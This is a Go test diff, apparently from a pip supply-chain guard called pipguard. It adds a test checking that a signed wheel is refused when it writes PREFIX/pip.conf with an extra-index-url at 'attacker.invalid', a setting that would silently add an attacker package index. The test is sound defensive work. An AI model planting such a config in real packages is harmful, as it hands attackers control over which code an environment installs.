@@ -364,3 +364,34 @@ func TestAttackIndexPatternWithInnerStarIsRefused(t *testing.T) {
 		}
 	}
 }
+
+// A wheel may write PREFIX/pip.conf (its .data/data/pip.conf): pip reads
+// it as the environment's own ("site") configuration on every later run,
+// pipguard's resolution included. With the policy's indexes unset (the
+// default), the planted extra-index-url is then one of the indexes pip
+// resolves from and pipguard asks for provenance (a receipt can name it,
+// and audit --online asks it again): a wheel chooses the environment's
+// package sources for good. The plan should refuse it, as it refuses
+// PREFIX/.pipguard.
+func TestAttackIndexWheelPlantsPipConf(t *testing.T) {
+	w := newIndexWorld(t)
+	cp := pkgtest.Project{Name: "confplant", Version: "1.0", Files: map[string]string{
+		"confplant-1.0.data/data/pip.conf": "[global]\nextra-index-url = https://attacker.invalid/simple/\n",
+	}}
+	data := cp.Wheel()
+	sf, err := pkgtest.Signed(w.pg, sigstoretest.GitHubActions("acme/confplant", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
+		sigstoretest.GitHubPublisher("acme/confplant", "release.yml"), "confplant", "1.0", cp.WheelName(), data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.ix.Put(sf)
+	_, err = w.install(t, InstallOptions{Requirements: []string{"confplant==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}})
+	if err != nil {
+		return // refused
+	}
+	conf := filepath.Join(prefixOf(w.python), "pip.conf")
+	if _, serr := os.Stat(conf); serr == nil {
+		out, _ := exec.Command(w.python, "-m", "pip", "config", "list").CombinedOutput()
+		t.Errorf("pipguard installed a wheel that writes the environment's pip configuration %s; pip config list now says:\n%s", conf, out)
+	}
+}
